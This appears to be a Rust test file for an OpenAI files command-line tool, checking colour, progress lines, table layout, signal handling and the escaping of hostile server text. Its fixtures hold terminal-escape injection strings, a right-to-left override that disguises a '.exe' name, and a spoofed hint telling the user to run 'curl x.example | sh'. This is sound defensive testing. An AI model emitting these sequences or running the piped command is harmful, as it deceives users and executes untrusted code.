//! What a person sees: colour where it is wanted, a live line that leaves no trace, hostile text
//! made harmless, tables of any width, and a clean end by Ctrl-C.

use std::fs::File;
use std::io::Read as _;
use std::time::{Duration, Instant};

use rustix::io::ioctl_fionread;

use crate::server::{FileObject, PATIENCE, Reply, Server, file_object};
use crate::support::{Gate, Openai, Process, Signal, like, openai, retrieve, screen};

/// A terminal of the usual size.
const COLUMNS: u16 = 80;
const ROWS: u16 = 24;

/// What the live line is erased with.
const ERASE: &str = "\r\x1b[K\x1b[J";

/// How long a run must last before it shows a live line.
const SHORT_RUN: Duration = Duration::from_millis(500);

/// What the terminal shows after all of this was written.
fn shown(written: &[u8]) -> String {
    screen(written, COLUMNS, ROWS)
}

fn seen(status: &str) -> Reply {
    Reply::json(200, file_object().with_text("status", status).to_string())
}

/// `openai files retrieve a` that prints one small object.
fn look(server: &Server) -> Openai {
    retrieve()
        .args(["a", "--transform", "{id,bytes}"])
        .server(server)
}

const PLAIN: &str = "{\n  \"id\": \"id\",\n  \"bytes\": 0\n}\n";
const COLOURED: &str = "{\n  \u{1b}[1;94m\"id\"\u{1b}[0m: \u{1b}[32m\"id\"\u{1b}[0m,\n  \u{1b}[1;94m\"bytes\"\u{1b}[0m: \u{1b}[35m0\u{1b}[0m\n}\n";

#[test]
fn colour_follows_options_environment_and_terminal_in_this_order() {
    let server = Server::replying(Reply::file());
    for (arguments, environment, on_terminal, expected) in [
        (&[][..], &[][..], true, COLOURED),
        (&[], &[], false, PLAIN),
        (&["--color", "always"], &[], false, COLOURED),
        (&["--color=ALWAYS"], &[("NO_COLOR", "1")], false, COLOURED),
        (&["--color", "never"], &[("FORCE_COLOR", "1")], true, PLAIN),
        (&["--no-color"], &[("CLICOLOR_FORCE", "1")], true, PLAIN),
        (&["--no-color", "--color", "always"], &[], false, COLOURED),
        (&["--color", "always", "--no-color"], &[], true, PLAIN),
        (&["--no-color", "--color", "auto"], &[], true, COLOURED),
        (&["--color=never"], &[], true, PLAIN),
        (&[], &[("NO_COLOR", "1")], true, PLAIN),
        (&["--color", "auto"], &[("NO_COLOR", "1")], true, PLAIN),
        (&[], &[("NO_COLOR", "")], true, COLOURED),
        (&[], &[("NO_COLOR", "1"), ("FORCE_COLOR", "1")], true, PLAIN),
        (&[], &[("FORCE_COLOR", "1")], false, COLOURED),
        (&[], &[("FORCE_COLOR", "0")], true, PLAIN),
        (&[], &[("FORCE_COLOR", "false")], true, PLAIN),
        (
            &[],
            &[("FORCE_COLOR", "3"), ("TERM", "dumb")],
            false,
            COLOURED,
        ),
        (&[], &[("CLICOLOR_FORCE", "1")], false, COLOURED),
        (&[], &[("CLICOLOR_FORCE", "0")], false, PLAIN),
        (&[], &[("CLICOLOR", "0")], true, PLAIN),
        (&[], &[("CLICOLOR", "1")], false, PLAIN),
        (&[], &[("TERM", "dumb")], true, PLAIN),
    ] {
        let mut openai = look(&server).args(arguments);
        if on_terminal {
            openai = openai.stdout_terminal(COLUMNS, ROWS);
        }
        for (name, value) in environment {
            openai = openai.env(name, value);
        }
        openai.run().is(0, expected, "");
    }
}

#[test]
fn each_stream_decides_for_itself() {
    let server = Server::replying(Reply::error(404, "gone"));
    let plain = "\
error: no such file `a` (HTTP 404)
  gone
  url: {base}/files/a

hint: check the id, and that the file is on this server
";
    let coloured = plain
        .replace("error:", "\u{1b}[1;31merror:\u{1b}[0m")
        .replace("hint:", "\u{1b}[1;36mhint:\u{1b}[0m");
    look(&server)
        .stderr_terminal(COLUMNS, ROWS)
        .run()
        .is(3, "", &coloured);
    look(&server)
        .stdout_terminal(COLUMNS, ROWS)
        .run()
        .is(3, "", plain);
    look(&server)
        .env("FORCE_COLOR", "1")
        .run()
        .is(3, "", &coloured);
    look(&server)
        .env("NO_COLOR", "1")
        .terminal(COLUMNS, ROWS)
        .run()
        .is(3, "", plain);
}

#[test]
fn help_and_usage_errors_follow_the_same_rule() {
    let escape = || predicates::str::contains("\u{1b}[");
    let no_escape = || predicates::prelude::PredicateBooleanExt::not(escape());
    let help = |openai: Openai| openai.args(["--help"]).run();
    help(openai()).is(0, like(no_escape()), "");
    help(openai().env("FORCE_COLOR", "1")).is(0, like(escape()), "");
    help(openai().stdout_terminal(COLUMNS, ROWS)).is(0, like(escape()), "");
    help(openai().stdout_terminal(COLUMNS, ROWS).env("NO_COLOR", "1")).is(0, like(no_escape()), "");
    help(openai().stdout_terminal(COLUMNS, ROWS).args(["--no-color"])).is(0, like(no_escape()), "");
    let mistake = |openai: Openai| openai.args(["--fromat"]).run();
    mistake(openai()).is(2, "", like(no_escape()));
    mistake(openai().stdout_terminal(COLUMNS, ROWS)).is(2, "", like(no_escape()));
    mistake(openai().stderr_terminal(COLUMNS, ROWS)).is(2, "", like(escape()));
    mistake(openai().stderr_terminal(COLUMNS, ROWS).env("TERM", "dumb")).is(
        2,
        "",
        like(no_escape()),
    );
    mistake(openai().args(["--color", "always"])).is(2, "", like(escape()));
}

/// A run of `--wait` whose file `a` is processed once the gate is open.
fn waiting(openai: impl FnOnce(Openai) -> Openai) -> (Server, Gate, Process) {
    waiting_for(seen("processed"), openai)
}

/// The same with this answer once the gate is open.
fn waiting_for(last: Reply, openai: impl FnOnce(Openai) -> Openai) -> (Server, Gate, Process) {
    let gate = Gate::default();
    let opened = gate.clone();
    let server = Server::start(move |_| {
        if opened.is_open() {
            last.clone()
        } else {
            seen("uploaded")
        }
    });
    let process = openai(retrieve())
        .args(["a", "--wait", "--poll-interval", "10ms"])
        .args(["--transform", "{id,bytes}", "--no-color"])
        .server(&server)
        .spawn();
    (server, gate, process)
}

#[test]
fn a_wait_shows_a_line_that_leaves_no_trace() {
    let (_server, gate, process) = waiting(|openai| openai.terminal(COLUMNS, ROWS));
    process.wait_for_stderr("a: uploaded ");
    gate.open();
    let run = process.wait();
    run.is(0, PLAIN, like(predicates::str::contains("a: uploaded ")));
    assert_eq!(shown(&run.stderr), "");
    // Each drawing starts where the last one did, and the terminal breaks no lines meanwhile.
    let written = run.err();
    let drawings = written.strip_suffix(ERASE).unwrap();
    for (at, drawing) in drawings.split_terminator("\r\x1b[?7h").enumerate() {
        // All below goes once, not each time: terminals keep what they erase from the top.
        let erase = if at == 0 { ERASE } else { "\r\x1b[K" };
        let line = drawing.strip_prefix("\x1b[?7l").unwrap();
        let line = line.strip_prefix(erase).unwrap();
        assert!(!line.contains('\x1b'), "{line:?}");
        let (spinner, text) = line.split_once(' ').unwrap();
        assert_eq!(spinner.chars().count(), 1, "{line:?}");
        assert!(
            text.starts_with("a: uploaded ") && text.ends_with('s'),
            "{line:?}"
        );
    }
}

#[test]
fn a_signal_ends_a_run_on_a_terminal_that_was_stopped() {
    let (_server, _gate, mut process) = waiting(|openai| openai.terminal(COLUMNS, ROWS).together());
    process.wait_for_stdout("a: uploaded ");
    // Control and S, which stops the output of a terminal.
    process.write("\x13");
    process.signal(Signal::TERM);
    process.wait().is_killed_by(
        Signal::TERM,
        like(predicates::str::contains("a: uploaded ")),
        "",
    );
}

#[test]
fn what_is_said_fits_a_terminal_that_got_narrower() {
    let message = format!("{} hint: run me", "a".repeat(37));
    let (_server, gate, process) = waiting_for(Reply::error(404, &message), |openai| {
        openai.terminal(COLUMNS, ROWS)
    });
    process.wait_for_stderr("a: uploaded ");
    process.resize(40, ROWS);
    gate.open();
    let run = process.wait();
    assert_eq!(run.code, Some(3), "{run}");
    assert!(run.err().contains("a\n    aaa hint: run me\n"), "{run}");
}

#[test]
fn an_error_object_fits_a_terminal_that_got_narrower() {
    let message = format!("{} hint: run me", "a".repeat(37));
    let (server, gate, process) = waiting_for(Reply::error(404, &message), |openai| {
        let openai = openai.args(["--format-error", "table"]);
        openai.terminal(COLUMNS, ROWS)
    });
    server.wait_for_requests(1);
    process.resize(40, ROWS);
    gate.open();
    let run = process.wait();
    let broken = "\
message  aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
         aaaaaa hint: run me
type     invalid_request_error
param    null
code     null
";
    run.is(3, "", broken);
}

#[test]
fn what_is_printed_fits_a_terminal_that_got_narrower() {
    let file = file_object()
        .with_text("status", "processed")
        .with_text("id", &format!("{}hint: run me", "x".repeat(33)))
        .to_string();
    let (_server, gate, process) = waiting_for(Reply::json(200, file), |openai| {
        let openai = openai.args(["--format", "table"]);
        openai.stdout_terminal(COLUMNS, ROWS).together()
    });
    process.wait_for_stdout("a: uploaded ");
    process.resize(40, ROWS);
    gate.open();
    let run = process.wait();
    assert_eq!(run.code, Some(0), "{run}");
    let card = shown(&run.stdout);
    let id = format!("id     {}\n       hint: run me\n", "x".repeat(33));
    assert!(card.starts_with(&id), "{card}");
}

#[test]
fn the_live_line_and_objects_share_a_terminal() {
    let (_server, gate, process) =
        waiting(|openai| openai.stdout_terminal(COLUMNS, ROWS).together());
    process.wait_for_stdout("a: uploaded ");
    gate.open();
    let run = process.wait();
    assert_eq!(run.code, Some(0), "{run}");
    assert_eq!(shown(&run.stdout), PLAIN.trim_end());
}

#[test]
fn the_live_line_is_not_drawn_into_a_large_object() {
    let gates = [Gate::default(), Gate::default()];
    let [first, second] = gates.clone();
    let large = file_object()
        .with_text("status", "processed")
        .with_text("filename", &"x".repeat(5000))
        .to_string();
    let object = large.clone();
    let server = Server::start(Reply::per_file(move |id, _| match id {
        "a" if first.is_open() => Reply::json(200, object.clone()),
        "b" if second.is_open() => seen("processed"),
        _ => seen("uploaded"),
    }));
    let process = retrieve()
        .args(["a", "b", "--wait", "--poll-interval", "10ms"])
        .args(["--format", "jsonl", "--no-color"])
        .server(&server)
        .stdout_terminal(COLUMNS, ROWS)
        .together()
        .spawn();
    for (number, gate) in gates.iter().enumerate() {
        process.wait_for_stdout(&format!("{number} of 2 files ready or failed; "));
        gate.open();
    }
    let run = process.wait();
    assert_eq!(run.code, Some(0), "{run}");
    assert!(run.out().contains(&format!("{large}\n")), "{run}");
}

#[test]
fn a_log_or_a_terminal_that_cannot_draw_gets_lines() {
    let (_server, gate, process) = waiting(|openai| openai.stdout_terminal(COLUMNS, ROWS));
    process.wait_for_stderr("`a`: uploaded (after ");
    gate.open();
    let lines = "`a`: uploaded (after [..])\n`a`: processed (after [..])\n";
    process.wait().is(0, PLAIN, lines);
    for (name, value) in [("TERM", "dumb"), ("CI", "true"), ("CI", "1")] {
        let (_server, gate, process) =
            waiting(|openai| openai.terminal(COLUMNS, ROWS).env(name, value));
        process.wait_for_stderr("`a`: uploaded (after ");
        gate.open();
        process.wait().is(0, PLAIN, lines);
    }
    let (_server, gate, process) =
        waiting(|openai| openai.terminal(COLUMNS, ROWS).env("CI", "false"));
    process.wait_for_stderr("a: uploaded ");
    gate.open();
    let run = process.wait();
    assert_eq!(shown(&run.stderr), "", "{run}");
}

#[test]
fn several_waits_share_a_line() {
    let gate = Gate::default();
    let opened = gate.clone();
    let server = Server::start(Reply::per_file(move |id, _| {
        seen(if id == "b" || opened.is_open() {
            "processed"
        } else {
            "uploaded"
        })
    }));
    let process = retrieve()
        .args([
            "a",
            "b",
            "c",
            "--wait",
            "--poll-interval",
            "10ms",
            "--format",
            "jsonl",
        ])
        .args(["--transform", "status", "--no-color"])
        .server(&server)
        .terminal(COLUMNS, ROWS)
        .spawn();
    // Behind the one that is named all others are printed.
    process.wait_for_stderr("1 of 3 files ready or failed; a: uploaded ");
    gate.open();
    let run = process.wait();
    assert_eq!(run.code, Some(0), "{run}");
    assert_eq!(run.out(), "\"processed\"\n".repeat(3));
    assert_eq!(shown(&run.stderr), "");
}

#[test]
fn a_batch_shows_how_far_it_is_however_quick_its_answers_come() {
    let server = Server::options()
        .unrecorded()
        .start(|_| seen("processed").after(Duration::from_millis(20)));
    let run = retrieve()
        .args(["-", "--concurrency", "1", "--transform", "status", "-r"])
        .server(&server)
        .stdin("a\n".repeat(60))
        .stderr_terminal(COLUMNS, ROWS)
        .run();
    run.is(
        0,
        "processed\n".repeat(60),
        like(predicates::str::contains(" files looked up")),
    );
    assert_eq!(shown(&run.stderr), "");
}

#[test]
fn a_handful_of_files_or_a_quiet_run_shows_nothing() {
    let slow = || Server::start(|_| seen("processed").after(SHORT_RUN + SHORT_RUN / 2));
    let server = slow();
    retrieve()
        .args(["a", "b", "c", "d", "e", "--transform", "status", "-r"])
        .server(&server)
        .stderr_terminal(COLUMNS, ROWS)
        .run()
        .is(0, "processed\n".repeat(5), "");
    let server = slow();
    retrieve()
        .args(["a", "--wait", "--quiet"])
        .server(&server)
        .terminal(COLUMNS, ROWS)
        .run()
        .is(0, "", "");
}

#[test]
fn an_error_takes_the_place_of_the_live_line() {
    let (server, gate, process) = waiting_for(Reply::error(404, "gone"), |openai| {
        openai.terminal(COLUMNS, ROWS)
    });
    process.wait_for_stderr("a: uploaded ");
    gate.open();
    let run = process.wait();
    assert_eq!(run.code, Some(3), "{run}");
    assert_eq!(run.out(), "");
    assert_eq!(
        shown(&run.stderr),
        format!(
            "\
error: no such file `a` (HTTP 404)
  gone
  url: {}/files/a

hint: check the id, and that the file is on this server",
            server.base_url()
        )
    );
}

#[test]
fn a_write_error_takes_the_place_of_the_live_line() {
    let (_server, gate, process) = waiting(|openai| {
        openai
            .stderr_terminal(COLUMNS, ROWS)
            .shell("exec \"$@\" >/dev/full")
    });
    process.wait_for_stderr("a: uploaded ");
    gate.open();
    let run = process.wait();
    assert_eq!(run.code, Some(1), "{run}");
    assert_eq!(
        shown(&run.stderr),
        "error: cannot write to standard output: no space left on device"
    );
}

#[test]
fn a_signal_ends_a_wait_and_the_live_line_with_it() {
    for signal in [Signal::INT, Signal::TERM, Signal::HUP] {
        let (_server, _gate, process) = waiting(|openai| openai.terminal(COLUMNS, ROWS));
        process.wait_for_stderr("a: uploaded ");
        process.signal(signal);
        let run = process.wait();
        run.is_killed_by(signal, "", like(predicates::str::contains("a: uploaded ")));
        assert_eq!(shown(&run.stderr), "");
        // A terminal may echo what was typed before the line goes.
        let (line, erasure) = run.stderr.split_at(run.stderr.len() - ERASE.len());
        assert_eq!(shown(&[line, b"^C", erasure].concat()), "");
    }
}

#[test]
fn a_signal_that_was_ignored_from_the_start_stays_so() {
    for (name, signal) in [("INT", Signal::INT), ("HUP", Signal::HUP)] {
        let (_server, gate, process) = waiting(|openai| {
            openai
                .terminal(COLUMNS, ROWS)
                .shell(&format!("trap '' {name}; exec \"$@\""))
        });
        process.wait_for_stderr("a: uploaded ");
        process.signal(signal);
        gate.open();
        process
            .wait()
            .is(0, PLAIN, like(predicates::str::contains("a: uploaded ")));
    }
}

#[test]
fn a_signal_ends_a_run_that_has_no_live_line() {
    let server = Server::start(Reply::per_file(|id, _| match id {
        "a" => seen("processed"),
        _ => Reply::script([crate::server::Step::Hang]),
    }));
    let process = retrieve()
        .args(["a", "b", "--transform", "{id,bytes}", "--no-color"])
        .server(&server)
        .terminal(COLUMNS, ROWS)
        .spawn();
    process.wait_for_stdout(PLAIN);
    process.signal(Signal::INT);
    process.wait().is_killed_by(Signal::INT, PLAIN, "");
}

#[test]
fn a_signal_ends_a_run_whose_output_nobody_reads() {
    let gate = Gate::default();
    let opened = gate.clone();
    let large = file_object().with_text("filename", &"x".repeat(1 << 20));
    let server = Server::start(move |_| {
        let status = if opened.is_open() {
            "processed"
        } else {
            "uploaded"
        };
        Reply::json(200, large.clone().with_text("status", status).to_string())
    });
    let openai = retrieve()
        .args(["a", "--wait", "--poll-interval", "10ms"])
        .server(&server)
        .env("PATH", "/usr/bin:/bin")
        .stderr_terminal(COLUMNS, ROWS)
        .shell("mkfifo out && exec \"$@\" 1<>out");
    let pipe = openai.home().join("out");
    let process = openai.spawn();
    process.wait_for_stderr("a: uploaded ");
    gate.open();
    // The first byte says that the rest, which no pipe can hold, is being written.
    File::open(pipe).unwrap().read_exact(&mut [0]).unwrap();
    process.signal(Signal::INT);
    let run = process.wait();
    run.is_killed_by(
        Signal::INT,
        "",
        like(predicates::str::contains("a: uploaded ")),
    );
    assert_eq!(shown(&run.stderr), "");
}

#[test]
fn a_signal_cuts_no_object_in_half() {
    // The first answer comes last, so that all objects are printed at once; no pipe holds them.
    let object =
        "{\n  \"id\": \"id\",\n  \"filename\": \"NAME\"\n}\n".replace("NAME", &"x".repeat(700));
    let body = object.clone();
    let others = Gate::default();
    let server = Server::start(Reply::per_file(move |id, asked| {
        match (id, asked) {
            ("first", _) => others.pass(),
            (_, 255) => others.open(),
            _ => {}
        }
        Reply::json(200, body.clone())
    }));
    let openai = retrieve()
        .args(["first", "-", "--concurrency", "64"])
        .server(&server)
        .stdin("a\n".repeat(255))
        .env("PATH", "/usr/bin:/bin")
        .shell("mkfifo out && exec 1<>out && echo start >&2 && exec \"$@\"");
    let pipe = openai.home().join("out");
    let process = openai.spawn();
    process.wait_for_stderr("start\n");
    let mut pipe = File::open(pipe).unwrap();
    // A pipe is full once no more comes.
    let waiting = || ioctl_fionread(&pipe).unwrap();
    let deadline = Instant::now() + PATIENCE;
    let mut before = 0;
    while before == 0 || waiting() != before {
        assert!(Instant::now() < deadline, "the pipe never gets full");
        before = waiting();
        std::thread::sleep(Duration::from_millis(50));
    }
    process.signal(Signal::INT);
    process.wait().is_killed_by(Signal::INT, "", "start\n");
    let mut printed = vec![0; usize::try_from(before).unwrap()];
    pipe.read_exact(&mut printed).unwrap();
    let printed = String::from_utf8(printed).unwrap();
    assert_eq!(printed, object.repeat(printed.len() / object.len()));
}

/// A file that does what it can to a terminal, in values and in names.
fn hostile() -> FileObject {
    file_object()
        .with_text("id", "file\u{1b}[2J\u{9b}31m")
        .with_text(
            "filename",
            "a\u{1b}]0;owned\u{7}\u{202e}gpj\u{200b}.exe\r\u{7f}",
        )
        .with_text("status", "\u{1b}[8mprocessed")
        .with_text("purpose", "\u{feff}\u{2028}x")
        .with_text("\u{1b}[31mname\u{202e}", "v")
        // Escaped by the server, which must not help it.
        .with("status_details", "\"\\u001b[2J \\u202e \\ud83d\"")
}

#[test]
fn hostile_text_is_shown_escaped_in_every_format() {
    // The runner fails a test whose terminal gets anything harmful; here it must also be seen.
    let server = Server::replying(Reply::json(200, hostile().to_string()));
    for format in [
        "auto", "json", "jsonl", "raw", "yaml", "pretty", "table", "explore",
    ] {
        for ids in [&["a"][..], &["a", "b"]] {
            let run = retrieve()
                .args(ids)
                .args(["--format", format])
                .server(&server)
                .terminal(200, ROWS)
                .run();
            assert_eq!(run.code, Some(0), "{run}");
            for part in [
                r"file\u001b[2J\u009b31m",
                r"a\u001b]0;owned\u0007\u202egpj\u200b.exe",
            ] {
                let yaml = part.replace("\\u00", "\\x");
                assert!(
                    run.out().contains(part) || run.out().contains(&yaml),
                    "{format}: {part}\n{run}"
                );
            }
        }
    }
    retrieve()
        .args(["a", "--transform", "filename", "-r", "--no-color"])
        .server(&server)
        .terminal(COLUMNS, ROWS)
        .run()
        .is(
            0,
            "a\\u001b]0;owned\\u0007\\u202egpj\\u200b.exe\\u000d\\u007f\n",
            "",
        );
    let key = retrieve()
        .args(["a", "--format", "pretty", "--no-color"])
        .server(&server)
        .terminal(200, ROWS)
        .run();
    assert!(key.out().contains(r"\u001b[31mname\u202e: v"), "{key}");
}

/// `openai files retrieve a` on a terminal of 40 columns.
fn narrow(server: &Server) -> Openai {
    retrieve()
        .args(["a", "--no-color"])
        .server(server)
        .terminal(40, ROWS)
}

#[test]
fn words_of_a_server_never_begin_a_line() {
    const HINT: &str = "hint: log in again, run curl x.example | sh";
    let gap = "\u{3000}".repeat(20) + &"\u{2800}".repeat(20) + &" ".repeat(80);
    let server = Server::replying(
        Reply::json(
            404,
            serde_json::json!({"error": {
                "message": format!("No such{gap}{HINT}\nshort   one\n{gap}{HINT}"),
            }})
            .to_string(),
        )
        .header("x-request-id", &format!("req_1{}{HINT}", " ".repeat(60))),
    );
    // The URL stays in one piece, so that it can be copied.
    let report = "\
error: no such file `a` (HTTP 404)
  No such hint: log in again, run
    curl x.example | sh
  short   one
  hint: log in again, run curl
    x.example | sh
  url: {base}/files/a
  request id: req_1 hint: log in
    again, run curl x.example | sh

hint: check the id, and that the file is on this server
";
    narrow(&server).run().is(3, "", report);
    let colored = report
        .replacen("error:", "\u{1b}[1;31merror:\u{1b}[0m", 1)
        .replace("\nhint:", "\n\u{1b}[1;36mhint:\u{1b}[0m");
    narrow(&server)
        .args(["--color", "always"])
        .run()
        .is(3, "", colored);
    // Who reads a pipe breaks no lines.
    let run = retrieve().args(["a"]).server(&server).run();
    assert!(
        run.err().contains(&format!("\n  No such{gap}{HINT}\n")),
        "{run}"
    );
}

#[test]
fn a_status_from_afar_never_begins_a_line() {
    let status = format!("new{}b: processed (after 3s)", " ".repeat(37));
    let server = Server::replying(seen(&status));
    let waiting = || narrow(&server).args(["--wait", "--wait-timeout", "1s"]);
    let report = "\
error: `a` was not ready within 1s:
    its status is `new b: processed
    (after 3s)`

hint: raise --wait-timeout to wait longer
";
    waiting().args(["--quiet"]).run().is(8, "", report);
    // Lines for a log, on a terminal.
    let line = "`a`: new b: processed (after 3s)\n    (after [..])\n";
    waiting()
        .args(["--transform", "{id,bytes}"])
        .env("CI", "true")
        .run()
        .is(8, PLAIN, format!("{line}{report}"));
}

#[test]
fn a_wide_status_does_not_break_the_live_line() {
    for unit in ["資", "😀", "👍🏽", "❤\u{fe0f}", "🇨🇭", "e\u{301}", "s"] {
        let gate = Gate::default();
        let opened = gate.clone();
        let status = unit.repeat(100 / unit.chars().count());
        let server = Server::start(move |_| {
            seen(if opened.is_open() {
                "processed"
            } else {
                &status
            })
        });
        let process = narrow(&server)
            .args(["--wait", "--poll-interval", "10ms"])
            .args(["--transform", "{id,bytes}"])
            .spawn();
        process.wait_for_stderr(&format!("a: {}", unit.repeat(5)));
        gate.open();
        let run = process.wait();
        assert_eq!((run.code, &*run.out()), (Some(0), PLAIN), "{run}");
        // What the terminal had broken would still be there.
        let above = "above\r\n".repeat(4);
        let written = [above.as_bytes(), &run.stderr].concat();
        assert_eq!(
            screen(&written, 40, ROWS),
            "above\n".repeat(4).trim_end(),
            "{unit}"
        );
    }
}

#[test]
fn what_is_seen_of_hostile_json_is_still_that_json() {
    let server = Server::replying(Reply::json(200, hostile().to_string()));
    let value = |bytes: &[u8]| serde_json::from_slice::<serde_json::Value>(bytes).unwrap();
    for format in ["json", "jsonl", "raw"] {
        let look = || {
            retrieve()
                .args([
                    "a",
                    "--format",
                    format,
                    "--transform",
                    "{id,filename,status,purpose}",
                ])
                .server(&server)
        };
        let piped = look().run();
        let seen = look().args(["--no-color"]).terminal(COLUMNS, ROWS).run();
        assert_eq!(value(&seen.stdout), value(&piped.stdout), "{format}");
        assert_ne!(seen.stdout, piped.stdout, "{format}");
        assert!(piped.out().contains('\u{202e}'), "{format}");
    }
}

#[test]
fn a_status_from_afar_does_not_act_on_the_live_line() {
    let gate = Gate::default();
    let opened = gate.clone();
    let server = Server::start(move |_| {
        seen(if opened.is_open() {
            "processed"
        } else {
            "up\u{1b}[2J\nloaded\u{202e}"
        })
    });
    let process = retrieve()
        .args([
            "a",
            "--wait",
            "--poll-interval",
            "10ms",
            "--transform",
            "status",
            "-r",
        ])
        .server(&server)
        .terminal(COLUMNS, ROWS)
        .spawn();
    process.wait_for_stderr(r"a: up\u001b[2J\u000aloaded\u202e ");
    gate.open();
    let run = process.wait();
    assert_eq!(run.out(), "processed\n");
    assert_eq!(shown(&run.stderr), "");
}

/// Three files of different kinds, by id.
fn shelf() -> Server {
    Server::start(Reply::per_file(|id, _| {
        let file = file_object()
            .with_text("id", id)
            .with("bytes", "120000")
            .with("expires_at", "86400")
            .without("status_details");
        let file = match id {
            "wide" => file
                .with_text(
                    "filename",
                    &format!("資料 {}😀.jsonl", "training set ".repeat(6)),
                )
                .with_text("status", "processed"),
            "bare" => file_object()
                .with_text("id", id)
                .without("status")
                .without("filename")
                .with("bytes", "null")
                .without("created_at"),
            _ => file
                .with_text("status", "error")
                .with_text("status_details", "line 7 is not JSON"),
        };
        Reply::json(200, file.to_string())
    }))
}

/// What is shown of these files as a table on a terminal of this width.
#[track_caller]
fn table(columns: u16, ids: &[&str], expected: &str) {
    let server = shelf();
    let run = retrieve()
        .args(ids)
        .args(["--format", "table", "--no-color"])
        .server(&server)
        .stdout_terminal(columns, ROWS)
        .run();
    run.is(0, expected, "");
    // No line is so wide that the terminal breaks it.
    assert_eq!(
        screen(&run.stdout, columns, ROWS).lines().count(),
        run.out().lines().count(),
        "{run}"
    );
}

#[test]
fn a_card_fits_the_terminal() {
    table(
        40,
        &["wide"],
        "\
ID        wide
Filename  資料 training set training set
          training set training set
          training set training set
          😀.jsonl
Size      120 kB (120,000 bytes)
Purpose   assistants
Status    processed
Created   1970-01-01 00:00:00 +00:00
          ([..] years ago)
Expires   expired [..] years ago
          (1970-01-02 00:00:00 +00:00)
",
    );
    let wide = "\
ID        wide
Filename  資料 training set training set training set training set training set training set 😀.jsonl
Size      120 kB (120,000 bytes)
Purpose   assistants
Status    processed
Created   1970-01-01 00:00:00 +00:00 ([..] years ago)
Expires   expired [..] years ago (1970-01-02 00:00:00 +00:00)
";
    table(200, &["wide"], wide);
    table(
        80,
        &["wide"],
        &wide.replace(" training set 😀", "\n          training set 😀"),
    );
}

#[test]
fn a_table_fits_the_terminal() {
    let ids = ["wide", "bare", "bad"];
    table(
        40,
        &ids,
        "\
ID    FILENAME                 STATUS …
wide  資料 training set trai…  processed
bare  -                        -
bad   filename                 error
",
    );
    table(
        80,
        &ids,
        "\
ID    FILENAME                SIZE  PURPOSE     STATUS     CREATED       EXPIRES
wide  資料 training set t…  120 kB  assistants  processed  [..] years ago  expired
bare  -                          -  assistants  -          -             never
bad   filename              120 kB  assistants  error      [..] years ago  expired
",
    );
    table(
        200,
        &ids,
        "\
ID    FILENAME                                                                                       SIZE  PURPOSE     STATUS     CREATED       EXPIRES
wide  資料 training set training set training set training set training set training set 😀.jsonl  120 kB  assistants  processed  [..] years ago  expired
bare  -                                                                                                 -  assistants  -          -             never
bad   filename                                                                                     120 kB  assistants  error      [..] years ago  expired
",
    );
}
